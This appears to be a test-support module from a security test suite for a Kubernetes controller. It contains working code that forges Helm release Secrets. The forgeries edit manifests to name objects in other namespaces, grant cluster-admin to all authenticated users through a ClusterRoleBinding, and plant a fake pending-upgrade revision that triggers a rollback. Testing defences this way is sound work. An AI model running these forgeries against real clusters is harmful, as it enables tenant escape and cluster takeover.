"""What a tenant with Secret rights in its own namespace can do to Helm's release
records: decode one, change it, and write it back (or add a revision), exactly as
Helm's Secrets driver stores them (JSON, gzip, base64, inside the Secret's data)."""

from __future__ import annotations

import base64
import copy
import gzip
import json
from typing import Any

import yaml

from tests.support import Cluster

# Objects outside the tenant's namespace that a forged manifest names.
ESCALATION = "lostromos-forged-admin"


def read_record(cluster: Cluster, namespace: str, release: str, revision: int) -> dict[str, Any]:
    secret = json.loads(
        cluster.kubectl(
            "get",
            "secret",
            f"sh.helm.release.v1.{release}.v{revision}",
            "-n",
            namespace,
            "-o",
            "json",
        ).stdout
    )
    stored = base64.b64decode(base64.b64decode(secret["data"]["release"]))
    return {"secret": secret, "release": json.loads(gzip.decompress(stored))}


def write_record(
    cluster: Cluster, secret: dict[str, Any], release: dict[str, Any], *, create: bool = False
) -> None:
    encoded = base64.b64encode(gzip.compress(json.dumps(release).encode())).decode()
    secret = copy.deepcopy(secret)
    secret["data"]["release"] = base64.b64encode(encoded.encode()).decode()
    for field in ("resourceVersion", "uid", "creationTimestamp", "managedFields"):
        secret["metadata"].pop(field, None)
    verb = "create" if create else "replace"
    cluster.kubectl(verb, "-f", "-", stdin=json.dumps(secret))


def foreign_manifest(victim_namespace: str, victim_configmap: str, *, escalate: bool = True) -> str:
    """A manifest tail naming a ConfigMap of another namespace and (escalate)
    cluster-admin for every authenticated user."""
    documents = [
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": victim_configmap, "namespace": victim_namespace},
            "data": {"owned": "by the tenant now"},
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": ESCALATION},
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "ClusterRole",
                "name": "cluster-admin",
            },
            "subjects": [{"kind": "Group", "name": "system:authenticated"}],
        },
    ]
    if not escalate:
        documents = documents[:1]
    return "".join(f"---\n# Source: forged\n{yaml.safe_dump(doc)}" for doc in documents)


def edit_manifest(
    cluster: Cluster, namespace: str, release: str, revision: int, extra: str
) -> None:
    """Attack 2: an existing revision's manifest now lists objects outside."""
    record = read_record(cluster, namespace, release, revision)
    record["release"]["manifest"] = record["release"]["manifest"].rstrip() + "\n" + extra
    write_record(cluster, record["secret"], record["release"])


def mark_pending(cluster: Cluster, namespace: str, release: str, revision: int) -> None:
    """An existing revision's record now says `pending-upgrade` (no record added)."""
    record = read_record(cluster, namespace, release, revision)
    record["release"]["info"]["status"] = "pending-upgrade"
    record["secret"]["metadata"]["labels"]["status"] = "pending-upgrade"
    write_record(cluster, record["secret"], record["release"])


def forge_pending_revision(cluster: Cluster, namespace: str, release: str) -> None:
    """Attack 1: revision 1 edited to list objects outside, plus a forged
    `pending-upgrade` revision 2 with the same owner labels, so the controller
    would *recover* by rolling back to revision 1."""
    record = read_record(cluster, namespace, release, 1)
    forged = copy.deepcopy(record["release"])
    forged["version"] = 2
    forged["info"]["status"] = "pending-upgrade"
    secret = copy.deepcopy(record["secret"])
    secret["metadata"]["name"] = f"sh.helm.release.v1.{release}.v2"
    secret["metadata"]["labels"].update({"version": "2", "status": "pending-upgrade"})
    write_record(cluster, secret, forged, create=True)


def cluster_admin_granted(cluster: Cluster) -> bool:
    return cluster.kubectl("get", "clusterrolebinding", ESCALATION, check=False).returncode == 0
